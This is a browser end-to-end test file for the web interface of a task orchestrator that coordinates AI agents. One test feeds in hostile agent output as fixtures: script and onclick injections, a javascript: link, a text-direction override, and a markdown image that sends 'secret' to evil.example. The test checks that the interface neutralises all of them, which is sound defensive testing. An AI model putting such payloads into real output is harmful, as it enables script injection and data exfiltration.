import { afterAll, expect, test } from "vitest";
import { fakeAgent } from "../../orchestrator/test/kit/fake-agent.ts";
import { planOf } from "../../orchestrator/test/kit/start-orchestrator.ts";
import { findViolations } from "./kit/find-violations.ts";
import { keepPicture } from "./kit/keep-picture.ts";
import { openBrowser } from "./kit/open-browser.ts";
import { powerUser } from "./kit/power-user.ts";
import { startService } from "./kit/start-service.ts";

const browser = await openBrowser();
afterAll(() => browser[Symbol.asyncDispose]());

const LRI = "\u202e";

test("a task is watched live, paused, resumed and cancelled, and each step says what became of it", async () => {
  await using service = await startService();
  await using quick = await fakeAgent();
  await using slow = await fakeAgent();
  const { register, client } = service.orchestrator;
  await register({ name: "Quick", endpoint: quick.answers("quick answer").url });
  await register({ name: "Slow", endpoint: slow.holds().url });
  const { task_id: id } = await client.tasks.create({
    description: "three steps",
    user_id: "u",
    plan: {
      steps: [
        { step_number: 1, description: "first", agent_name: "Quick", dependencies: [] },
        { step_number: 2, description: "second", agent_name: "Slow", dependencies: [1] },
        { step_number: 3, description: "third", agent_name: "Quick", dependencies: [2] },
      ],
    },
  });
  const page = await browser.open();
  await page.goto(service.page(`/tasks/${id}`));
  await page.getByRole("button", { name: /^Step 1, completed: first/ }).waitFor();
  await page.getByRole("button", { name: /^Step 2, executing: second/ }).waitFor();
  await page.getByRole("button", { name: "Pause" }).click();
  await page.getByText("paused", { exact: true }).waitFor();
  await page.getByRole("button", { name: "Resume" }).click();
  await page.getByRole("button", { name: "Pause" }).waitFor();
  await page.getByRole("button", { name: "Cancel" }).click();
  await page.getByText(/Task \d+ is cancelled\. Step 2: /).waitFor();
  await page.getByRole("button", { name: /^Step 3, cancelled: third/ }).waitFor();
  const cancel = page.getByRole("button", { name: "Cancel", exact: true });
  await expect.poll(() => cancel.getAttribute("title")).toBe("A task that is cancelled cannot be cancelled");
  await page.getByRole("button", { name: /^Step 1/ }).click();
  const inspector = page.getByRole("complementary", { name: "Step 1" });
  await inspector.getByText("quick answer").waitFor();
  await inspector.getByText("given by the caller").waitFor();
  expect(page.url()).toContain("step=1");
});

test("a failed task is retried from its failure with other words for the step; what completed is carried over", async () => {
  await using service = await startService();
  await using agent = await fakeAgent();
  const { register, client, taskToBe } = service.orchestrator;
  await register({ name: "Worker", endpoint: agent.answers("ok").url });
  await using broken = await fakeAgent();
  await register({ name: "Broken", endpoint: broken.answersRaw("{}", {}, 400).url });
  const { task_id: id } = await client.tasks.create({
    description: "two steps",
    user_id: "u",
    plan: {
      steps: [
        { step_number: 1, description: "first", agent_name: "Worker", dependencies: [] },
        { step_number: 2, description: "second", agent_name: "Broken", dependencies: [1] },
      ],
    },
  });
  await taskToBe(id, "failed");
  broken.answers("mended");
  const page = await browser.open();
  await page.goto(service.page(`/tasks/${id}?tab=result`));
  await page.getByText("Step 2 failed").waitFor();
  // The head of the page says so on every tab, and leads to the step.
  await page.getByText("Failed at step 2 (Broken): The agent answered HTTP 400").waitFor();
  await page.getByRole("link", { name: "step 2", exact: true }).click();
  await page.getByRole("complementary", { name: "Step 2" }).getByRole("button", { name: "Close" }).click();
  await page.getByRole("button", { name: "Retry" }).click();
  const dialog = page.getByRole("dialog", { name: "Retry" });
  await dialog.getByText("Change what the steps are to do").click();
  await dialog.getByRole("textbox", { name: /Step 2/ }).fill("second, said better");
  await dialog.getByRole("button", { name: "Retry as a new task" }).click();
  await page.waitForURL(`**/tasks/${id + 1}`);
  await page.getByRole("link", { name: `retry of ${id}` }).waitFor();
  await page.getByRole("button", { name: /^Step 1, completed: first.*carried over/ }).waitFor();
  await page.getByRole("button", { name: /^Step 2, completed: second, said better/ }).waitFor();
  expect(agent.calls).toHaveLength(1);
});

test("a retry gives a step other data, and says of what is no JSON that it is none", async () => {
  await using service = await startService();
  await using agent = await fakeAgent();
  const { register, client, taskToBe } = service.orchestrator;
  await register({ name: "Worker", endpoint: agent.answers({ sum: 3 }).url });
  const { steps } = planOf("Worker", [[], [1]]);
  const { task_id: id } = await client.tasks.create({
    description: "add up",
    user_id: "u",
    plan: { steps: steps.map((step, i) => (i === 0 ? { ...step, input_data: { rows: [1, 2] } } : step)) },
  });
  await taskToBe(id, "completed");
  const page = await browser.open();
  await page.goto(service.page(`/tasks/${id}`));
  await page.getByRole("button", { name: "Retry" }).click();
  const dialog = page.getByRole("dialog", { name: "Retry" });
  await dialog.getByText("Give steps other data").click();
  const data = dialog.getByRole("textbox", { name: /^Data of step/ });
  expect(JSON.parse(await data.inputValue())).toEqual({ rows: [1, 2] });
  await dialog.getByText("What it had was given with the task.").waitFor();
  await data.fill('{"rows": [1, 2');
  await dialog.getByText("This is no JSON").waitFor();
  const retry = dialog.getByRole("button", { name: "Retry as a new task" });
  expect(await retry.getAttribute("title")).toBe("The data of step 1 is no JSON");
  expect(await data.getAttribute("aria-invalid")).toBe("true");
  expect(await findViolations(page)).toEqual([]);
  await keepPicture(page, "retry-data");
  await data.fill('{"rows": [4, 5]}');
  await dialog.getByLabel("The step to give other data").selectOption("2");
  await dialog.getByText("It had what the steps before it answered.").waitFor();
  await data.fill("7");
  await dialog.getByRole("button", { name: "As it was" }).click();
  expect(JSON.parse(await data.inputValue())).toEqual({ sum: 3 });
  await dialog.getByRole("option", { name: /^1\. .* \(changed\)$/ }).waitFor({ state: "attached" });
  await retry.click();
  await page.waitForURL(`**/tasks/${id + 1}`);
  const again = await taskToBe(id + 1, "completed");
  expect(again.steps.map(({ input_data: input, input_given: given }) => [input, given])).toEqual([
    [{ rows: [4, 5] }, true],
    [{ sum: 3 }, false],
  ]);
});

test("a retry of a task in doubt asks what became of its steps, and keeps what a person found", async () => {
  await using service = await startService();
  await using agent = await fakeAgent();
  const { register, client, taskToBe, untilEvent } = service.orchestrator;
  agent.resets();
  await register({ name: "Payer", endpoint: agent.url, config: { delivery: "at_most_once" } });
  const plan = planOf("Payer", [[], [1]]);
  const { task_id: id } = await client.tasks.create({ description: "pay", user_id: "u", plan });
  await untilEvent(id, "step.unknown");
  await client.tasks.cancel(id);
  agent.answers("paid the rest");
  const page = await browser.open();
  await page.goto(service.page(`/tasks/${id}`));
  await page.getByRole("button", { name: "Retry" }).click();
  const dialog = page.getByRole("dialog", { name: "Retry" });
  const retry = dialog.getByRole("button", { name: "Retry as a new task" });
  await retry.click();
  await dialog.getByText("Nobody knows what this agent did").waitFor();
  expect(await retry.getAttribute("title")).toBe("Say what became of step 1");
  await dialog.getByLabel("It did it; the step keeps what it gave").check();
  await dialog.getByLabel("What the agent of step 1 gave").fill('{"paid": 7}');
  expect(await findViolations(page)).toEqual([]);
  await keepPicture(page, "retry-in-doubt");
  await retry.click();
  await page.waitForURL(`**/tasks/${id + 1}`);
  const again = await taskToBe(id + 1, "completed");
  expect(again.steps.map(({ reused, output_data: output }) => [reused, output])).toEqual([
    [true, { paid: 7 }],
    [false, "paid the rest"],
  ]);
  expect(agent.calls).toHaveLength(2);
});

test("attempts, a change of agent and its reason are in the graph, the timeline and the inspector", async () => {
  await using service = await startService();
  await using failing = await fakeAgent();
  await using stand = await fakeAgent();
  const { register, client, taskToBe } = service.orchestrator;
  await register({ name: "First", endpoint: failing.answersRaw("no", {}, 503).url, capabilities: ["sums"] });
  await register({ name: "Second", endpoint: stand.answers("42").url, capabilities: ["sums"] });
  const plan = planOf("First", [[]]);
  const steps = plan.steps.map((step) => ({ ...step, capability: "sums" }));
  const { task_id: id } = await client.tasks.create({ description: "sum", user_id: "u", plan: { steps } });
  await taskToBe(id, "completed");
  const page = await powerUser(browser);
  await page.goto(service.page(`/tasks/${id}`));
  await page.getByRole("button", { name: /moved from First/ }).click();
  const inspector = page.getByRole("complementary", { name: "Step 1" });
  await inspector.getByText("planned for First").waitFor();
  await inspector
    .getByText(/The agent answered HTTP 503/)
    .first()
    .waitFor();
  await page.getByRole("button", { name: /First: failed and retried.*Second: completed/ }).waitFor();
  await page.getByRole("link", { name: "Events" }).click();
  await page.getByRole("row", { name: /step\.reassigned/ }).waitFor();
});

test("what agents write can do nothing: HTML, scripts, images, hidden directions, megabytes", async () => {
  await using service = await startService();
  await using agent = await fakeAgent();
  const { register, client } = service.orchestrator;
  await register({ name: "Hostile", endpoint: agent.url });
  const page = await browser.open();
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  const hostile = [
    "# Title",
    "<script>window.hacked = 1</script><b onclick='window.hacked = 1'>bold</b>",
    "![x](https://evil.example/?q=secret)",
    "[run](javascript:window.hacked=1) [fine](https://example.com)",
    `pay ${LRI}REVERSED`,
    "a Vec<String> is kept",
    "<div>and so is this paragraph</div>",
  ].join("\n\n");
  agent.answers(hostile);
  const first = await client.tasks.run(
    { description: "say", user_id: "u", plan: planOf("Hostile", [[]]) },
    30,
  );
  await page.goto(service.page(`/tasks/${first.id}?tab=result`));
  await page.getByRole("heading", { name: "Title" }).waitFor();
  await page.getByText("⟦U+202E⟧REVERSED").waitFor();
  expect(await page.getByRole("main").locator("img, script, b").count()).toBe(0);
  await page.getByText("a Vec<String> is kept").waitFor();
  await page.getByText("<div>and so is this paragraph</div>").waitFor();
  expect(await page.getByRole("link", { name: "fine" }).getAttribute("rel")).toContain("noopener");
  expect(await page.locator("a[href^=javascript]").count()).toBe(0);
  expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
  expect(requests.filter((url) => url.includes("evil"))).toEqual([]);

  agent.answers("x".repeat(900) + "five megabytes ".repeat(350_000));
  const large = await client.tasks.create({
    description: "say more",
    user_id: "u",
    plan: planOf("Hostile", [[]]),
  });
  await page.goto(service.page(`/tasks/${large.task_id}?tab=result`));
  const download = page.waitForEvent("download");
  await page
    .getByRole("button", { name: "Download all" })
    .or(page.getByText("AGENT_RESPONSE_TOO_LARGE"))
    .first()
    .waitFor();
  // It is said above the text as well as where it ends.
  expect(await page.getByRole("button", { name: "Download all" }).count()).toBe(2);
  await page.getByRole("button", { name: "Download all" }).first().click();
  expect((await download).suggestedFilename()).toBe(`result-of-task-${large.task_id}.md`);
  expect((await page.getByRole("main").innerText()).length).toBeLessThan(80_000);
  for (const tab of ["graph", "raw"]) {
    await page.goto(service.page(`/tasks/${large.task_id}?tab=${tab}&step=1`));
    await page.getByRole("button", { name: "Download all" }).first().waitFor();
  }
  expect(browser.complaints).toEqual([]);
});

test("the graph is walked by keyboard: arrows move, Enter opens, Escape closes", async () => {
  await using service = await startService();
  await using agent = await fakeAgent();
  const { register, client } = service.orchestrator;
  await register({ name: "Worker", endpoint: agent.answers("ok").url });
  const plan = planOf("Worker", [[], [1], [1], [2, 3]]);
  const { id } = await client.tasks.run({ description: "diamond", user_id: "u", plan }, 30);
  const page = await browser.open();
  await page.goto(service.page(`/tasks/${id}`));
  await page.getByRole("button", { name: /^Step 1,/ }).focus();
  await page.keyboard.press("ArrowRight");
  await page.keyboard.press("ArrowRight");
  const focused = page.locator(":focus");
  expect(await focused.textContent()).toMatch(/^Step 4/);
  await page.keyboard.press("Enter");
  await page.getByRole("complementary", { name: "Step 4" }).waitFor();
  await page.getByRole("button", { name: "Close the step" }).focus();
  await page.keyboard.press("Escape");
  await page.getByRole("complementary", { name: "Step 4" }).waitFor({ state: "detached" });
});

test("every view of a task is accessible in both themes", async () => {
  await using service = await startService();
  await using agent = await fakeAgent();
  const { register, client } = service.orchestrator;
  await register({ name: "Worker", endpoint: agent.answers("**ok** and `code`").url });
  const { id } = await client.tasks.run(
    { description: "diamond", user_id: "u", plan: planOf("Worker", [[], [1], [1], [2, 3]]) },
    30,
  );
  for (const colorScheme of ["light", "dark"] as const) {
    const page = await powerUser(browser, { colorScheme });
    for (const tab of ["graph", "timeline", "events", "result", "raw"]) {
      await page.goto(service.page(`/tasks/${id}?tab=${tab}&step=2`));
      await page.getByRole("complementary", { name: "Step 2" }).getByText("code").first().waitFor();
      expect(await findViolations(page)).toEqual([]);
      await keepPicture(page, `task-${tab}-${colorScheme}`);
    }
    for (const name of ["Retry", "Share"]) {
      await page.getByRole("button", { name, exact: true }).click();
      await page.getByRole("dialog").waitFor();
      expect(await findViolations(page)).toEqual([]);
      await page.keyboard.press("Escape");
    }
  }
});

test("a task that is not there, and one that ended meanwhile, are said in words", async () => {
  await using service = await startService();
  await using agent = await fakeAgent();
  const { register, client } = service.orchestrator;
  await register({ name: "Worker", endpoint: agent.holds().url });
  const page = await browser.open();
  await page.goto(service.page("/tasks/999"));
  await page.getByRole("heading", { name: "There is no task 999" }).waitFor();
  await page.goto(service.page("/tasks/nonsense"));
  await page.getByRole("heading", { name: "There is no such page" }).waitFor();
  const { task_id: id } = await client.tasks.create({
    description: "hold",
    user_id: "u",
    plan: planOf("Worker", [[]]),
  });
  await page.goto(service.page(`/tasks/${id}`));
  await page.getByRole("button", { name: /^Step 1, executing/ }).waitFor();
  // It ends just before the click arrives.
  await page.route("**/cancel", async (route) => {
    agent.release();
    await service.orchestrator.taskToBe(id, "completed");
    await route.continue();
  });
  await page.getByRole("button", { name: "Cancel" }).click();
  await page
    .getByRole("alert")
    .getByText(/has ended|completed|finished/i)
    .waitFor();
});

test("a part of the page that fails leaves the others", async () => {
  await using service = await startService();
  await using agent = await fakeAgent();
  const { register, client } = service.orchestrator;
  await register({ name: "Worker", endpoint: agent.answers("ok").url });
  const { id } = await client.tasks.run(
    { description: "one", user_id: "u", plan: planOf("Worker", [[]]) },
    30,
  );
  const page = await browser.open();
  await page.route("**/assets/TaskGraph*", (route) => route.abort());
  await page.goto(service.page(`/tasks/${id}`));
  await page.getByText("This could not be loaded").waitFor();
  await page.getByRole("link", { name: "Result" }).click();
  await page
    .getByText("1 of 1 steps completed")
    .or(page.getByText(/1 step/))
    .first()
    .waitFor();
});

test("a task names those that were created on its behalf, as they come, and the cancel of it says which it reached", async () => {
  await using service = await startService();
  await using agent = await fakeAgent();
  const { register, client } = service.orchestrator;
  await register({ name: "Slow", endpoint: agent.holds().url });
  const create = (parent_task_id?: number) =>
    client.tasks.create({ description: "d", user_id: "u", plan: planOf("Slow", [[]]), parent_task_id });
  const { task_id: parent } = await create();
  const { task_id: first } = await create(parent);
  const page = await powerUser(browser);
  await page.goto(service.page(`/tasks/${parent}`));
  await page
    .getByText("on its behalf")
    .getByRole("link", { name: String(first), exact: true })
    .waitFor();
  const { task_id: second } = await create(parent);
  await page
    .getByText("on its behalf")
    .getByRole("link", { name: String(second), exact: true })
    .waitFor();
  await page.getByRole("button", { name: "Cancel", exact: true }).click();
  await page
    .getByText(`Task ${parent} is cancelled, and with it ${first}, ${second}. Step 1: `, { exact: false })
    .waitFor();
  await page.getByRole("link", { name: String(first), exact: true }).click();
  await page.getByRole("link", { name: `on behalf of ${parent}` }).waitFor();
});

test("a step of which nobody knows whether it was done waits for a person, who says what came of it", async () => {
  await using service = await startService();
  await using agent = await fakeAgent();
  const { register, client, taskToBe, untilEvent } = service.orchestrator;
  agent.resets();
  await register({ name: "Bank", endpoint: agent.url, config: { delivery: "at_most_once" } });
  const { task_id: id } = await client.tasks.create({
    description: "pay the invoice",
    user_id: "u",
    plan: planOf("Bank", [[], [1]]),
  });
  await untilEvent(id, "step.unknown");
  agent.answers("receipt written");
  const page = await browser.open();
  await page.goto(service.page(`/tasks/${id}`));
  await page.getByText("Waits for you: nobody knows whether step 1 (Bank) was done").waitFor();
  await page.getByRole("main").getByRole("link", { name: "step 1" }).click();
  const inspector = page.getByRole("complementary", { name: "Step 1" });
  expect(await inspector.getByRole("button", { name: "It did" }).isEnabled()).toBe(false);
  await inspector.getByLabel("What the agent gave, or why it failed").fill('{"paid": 7}');
  await inspector.getByRole("button", { name: "It did" }).click();
  await page.getByText("Waits for you").waitFor({ state: "detached" });
  const task = await taskToBe(id, "completed");
  expect(task.steps[0]).toMatchObject({ status: "completed", output_data: { paid: 7 } });
});
